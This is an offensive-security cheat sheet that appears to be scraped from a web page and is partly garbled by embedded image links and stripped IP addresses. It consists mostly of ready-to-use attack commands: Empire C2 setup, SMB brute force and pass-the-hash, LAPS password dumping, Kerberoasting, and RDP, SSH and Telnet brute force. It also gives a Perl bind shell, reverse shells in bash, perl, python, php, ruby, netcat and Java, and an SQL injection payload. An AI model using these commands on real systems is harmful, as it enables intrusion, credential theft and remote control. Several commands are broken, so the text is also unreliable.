Persistence ScriptsCheat sheets



Clone GIT Repo

root@workstation:~# git clone empire
Cloning into 'empire'...

Install Empire

root@workstation:~# cd empire/
root@workstation:~/empire# cd setup/
root@workstation:~/empire/setup# ./
Reading package lists... Done
Building dependency tree
Reading state information... Done

Successfully installed pydispatcher
Cleaning up...

[>] Enter server negotiation password, enter for random generation:

[*] Database setup completed!Start Empire

root@workstation:~/empire/setup# cd ..
root@workstation:~/empire# ./empire

Start with REST API for use with Empire Web

./empire --headless --username admin --password --restport 1337

./empire --rest --username admin --password --restport 1337


C2 ProfilesEdit default client settings in /setup/

Example Default Profile

"/CWoNaJLBo/VTNeWw11212/|Mozilla/4.0 (compatible; MSIE 6.0;Windows NT 5.1)|Accept:image/gif, image/x-xbitmap, image/jpeg, image/pjpeg, */*|Accept-Language:en-en"BASH loop example

for u in `cat hosts.txt`; do
echo -n "[*] user: $u" && \
proxychains python /usr/local/bin/ domain/username@$u -hashes aad3b435b51404eeaad3b435b51404ee:0e493911f561a425e7a905329f4454bf |tee user_brute.log

BASH .bashrc Function Example

function start_sshtunnel() {
ssh -A -t -p22 -L 8800:localhost:8800 james@123.001.123 -t ssh -L 8800:localhost:80 james@124.125.123

Quick BASH format .bash_profile (mod ipconfig > ifconfig for Linux)

# .bash_profile PATH=$PATH:/home/james/ export PATH alias ls='ls -G' alias grep='grep --color=auto' alias la='ls -AlahG' alias el='sudo $(history -p \!\!)' alias ll='ls -alF' alias l='ls -CF' alias lg='ls -AlahG |grep $1' alias netstati='lsof -P -i -n' export PS1="\n\n\[\$(if [[ \$? == 0 ]]; then echo \"\[$GREEN\]✓\"; else echo \"\[$RED\]✕\"; fi)[\033[33m\]\D{%Y%m%d_%H%M%S}\[\033[m\] \[\033[36m\]\u@\h__`ipconfig getifaddr en0`__`ipconfig getifaddr en8`\[\033[m\]] \[\033[1;31m\]\n[\w]\[\033[m\] \n \$

Create NTLM Hash from Mac CLI

echo -n password | iconv -t UTF-16LE | openssl md4

Linux Persistence IdeasAdd SSH keys
Add SUID to world-writeable script (chmod u+s )
Add init script (reboot persistence)


rpcclient -U "" -N
rpcclient -U
rpcclient $> srvinfo
rpcclient $> enum
rpcclient $> enumdomusers
rpcclient $> queryuser 500

Password bruteforce via rpcclient

for u in `cat users_sorted.txt`; do
echo -n "[*] user: $u" && \
proxychains rpcclient -U "domain\$u%$u" -c "getusername;quit"

Pass the Hash Variant

pth-rpcclient -U "domain\name%hash" --pw-nt-hash


Domain Controller Anonymous Enumeration

enum4linux -A | tee -anon-enum.txtAppend rules to top of the Input filter and make persistent

/sbin/iptables -I INPUT -p tcp --dport 50050 -s -j ACCEPT
/sbin/iptables -I INPUT -p tcp --dport 22 -s -j ACCEPT
service netfilter-persistent save
iptables -L -v

Delete rule

iptables -D INPUT -i eth0 -p tcp --dport 443 -j ACCEPT


Obtain LAPS passwords for domain computers using the linux based ldapsearch tool

Dump Laps Passwords with LDAPSearch by Rob Fuller

ldapsearch -x -h -D "helpdesk" -w ASDqwe123 -b "dc=sittingduck,dc=info" "(ms-MCS-AdmPwd=*)" ms-MCS-AdmPwd

-x - Use basic authentication
-h - Connect to the Domain Controller for ldap
-D "helpdesk" -w ASDqwe123 - Login as the helpdesk user, with the password ASDqwe123
-b "dc=sittingduck,dc=info" - This loads the base LDAP object of the entire domain.
"(ms-MCS-AdmPwd=*)" - Filter out any objects that I can’t see a value for ms-MCS-AdmPwd for. (If you have rights as that user to see even one Administrator password, this will show it.)
ms-MCS-AdmPwd - Only show me the ms-MCS-AdmPwd object (which by default includes the object name and DN so you will still know what host it belongs to)List NFS Mounts on remote host

showmount -e

Check NFS share counts in a loop

#cat nfs.results.msf |grep -|cut -d'-' -f2|cut -d' ' -f2,5|sed 's/ /:/g' for server in $(cat nfs.shares); do echo "[*] Checking $server" mount -o nolock,nfsvers=3 $server /mnt/n4s_backup ls /mnt/n4s_backup umount /mnt/n4s_backup done


TTY Shells

Upgrade your shell to a full TTY

python -c 'import pty; pty.spawn("/bin/sh")'

echo os.system('/bin/bash')

/bin/sh -i

perl —e 'exec "/bin/sh";'perl: exec "/bin/sh";

ruby: exec "/bin/sh"

lua: os.execute('/bin/sh')

(From within IRB)

exec "/bin/sh"

(From within vi)


(From within vi)

:set shell=/bin/bash:shell

(From within nmap)


Bind Shells

Perl Bind Shell (Port 1000)

perl -e 'useSocket;$p=10000;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));bind(S,sockaddr_in($p, INADDR_ANY));listen(S, SOMAXCONN);for(; $p= accept(C, S); close C) {open(STDIN,">&C");open(STDOUT,">&C");open(STDERR,">&C");exec("/usr/bin/bash -i");};'

Reverse Shells

Some versions of bash can send you a reverse shell (this was tested on Ubuntu 10.10):

bash -i >& /dev/tcp/ 0>&1


Here’s a shorter, feature-free version of the perl-reverse-shell:

perl -e 'use Socket;$i="";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

This was tested under Linux / Python 2.7:python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);["/bin/sh","-i"]);'


This code assumes that the TCP connection uses file descriptor 3. This worked on my test system. If it doesn’t work, try 4, 5, 6…

php -r '$sock=fsockopen("",1234);exec("/bin/sh -i <&3 >&3 2>&3");'


ruby -rsocket -e'"",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'

Netcat is rarely present on production systems and even if it is there are severalversion of netcat, some of which don’t support the -e option.

nc -e /bin/sh 1234

If you have the wrong version of netcat installed, Jeff Price points out here that you might still be able to get your reverse shell back like this:

rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1234 >/tmp/f


r = Runtime.getRuntime()
p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/;cat <&5 | while read line; do\$line 2>&5 >&5; done"] as String[])


One of the simplest forms of reverse shell is an xterm session. The following command should be run on the server. It will try to connect back to you ( on TCP port 6001.

xterm -display

To catch the incoming xterm, start an X-Server (:1 – which listens on TCP port 6001). One way to do this is with Xnest (to be run on your system):

Xnest :1

your’ll need to authorise the target to connect to you (command also run on your host):

xhost +targetip

SSH Tunnels

Send data over ssh to port 9000 on target

ssh -L 8090:localhost:9000 james@123.123.123

Send data over ssh to port 80 on target through jumphostssh -A -t -p22 -L 8800:localhost:8800 james@ -t ssh -L 8800:localhost:80 james@124.123.122

Start ssh using existing connections

nano ~/.ssh/config
ControlMaster auto
ControlPath ~/.ssh/control:%h:%p:%r



Install impacket on Windows

git clone

Download VC++ For Python 2.7 (Needed to compile some modules)Install necessary modules (You may need to install pip first)

python -m pip install pycrypto pyasn1 pyOpenSSL pyReadline ldapdomaindump

You can also download the PyCrypto binary if it fails to compile




Attempt to dump credentials from a remote machine via Pass the Hash

python ./ -hashes aad3b435b51404eeaad3b435b51404ee:21306681c738c3ed2d615e29be1574a3


Dump domain password hashes remotely via Volume Shadow Copy

c:\users\username\appdata\local\temp\sd.exe domain/username:password@dchostname -just-dc -use-vss -outputfile

This is the easiest way to gather SPN tickets in the correct format for cracking with John or Hashcat

root@wpad:~/impacket/examples# ./ -request -dc-ip
Impacket v0.9.15-dev - Copyright 2002-2016 Core Security Technologies

ServicePrincipalName Name MemberOf PasswordLastSet
--- --- --- ---
http/ uberuser CN=Enterprise Admins,CN=Users,DC=sittingduck,DC=info 2015-11-10 23:47:21
MSSQLSvc/ sqladmin01 2016-05-13 19:13:20


Brute Force Techniques

RDP Brute

ncrack -u administrator -P 500-worst-passwords.txt -p 3389

SSH Brute

medusa -M ssh -C /usr/share/wordlists/ssh.lst -H 22.txt -T 10| grep SUCCESS |tee medusa-results.txt

Telnet Brute

medusa -M telnet -C /usr/share/wordlists/telnet.lst -H 23.txt -T 10 -t 3| grep SUCCESS |tee medusa-results.txt

Web ExploitationSQLi Examples

secret' or 1=1 limit1;#

